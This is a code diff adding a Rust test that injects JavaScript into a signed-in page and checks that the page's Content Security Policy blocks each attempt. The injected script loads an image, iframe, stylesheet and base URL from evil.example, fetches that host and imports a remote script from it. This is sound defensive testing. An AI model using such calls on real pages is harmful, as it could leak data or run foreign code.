@@ -121,3 +121,37 @@ async fn what_a_tool_returns_does_nothing() {
     // The purifier reads a page in a document of its own, in which the policy refuses handlers once more.
     page.ends_but_for(&["about:srcdoc", "vendor/dompurify.js"]).await;
 }
+
+/// Tries what a text could try that got into the page after all, and says which rules of the page's policy refused it.
+const INTRUDE: &str = r"
+    const refused = new Set();
+    addEventListener('securitypolicyviolation', (event) => refused.add(event.effectiveDirective));
+    const tries = [
+        () => (document.createElement('div').innerHTML = '<b>text</b>'),
+        () => document.body.append(Object.assign(document.createElement('img'), { src: 'https://evil.example/seen.png' })),
+        () => document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' })),
+        () => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://evil.example/x.css' })),
+        () => document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' })),
+        () => fetch('https://evil.example/').catch(() => {}),
+        () => import('https://evil.example/x.js').catch(() => {}),
+        () => (location.hash = '#stays'),
+    ];
+    for (const attempt of tries) try { attempt(); } catch { /* It was refused. */ }
+    return new Promise((done) => setTimeout(() => done([...refused].sort()), 1000));";
+
+#[tokio::test]
+async fn what_gets_into_the_page_all_the_same_is_refused_by_its_policy() {
+    let server = crate::http::Server::start(&[]);
+    let page = Page::signed_in(&server).await;
+    let refused = page.run(INTRUDE, vec![]).await;
+    let rules = [
+        "base-uri",
+        "connect-src",
+        "frame-src",
+        "img-src",
+        "require-trusted-types-for",
+        "script-src-elem",
+        "style-src-elem",
+    ];
+    assert_eq!(refused, json!(rules));
+}
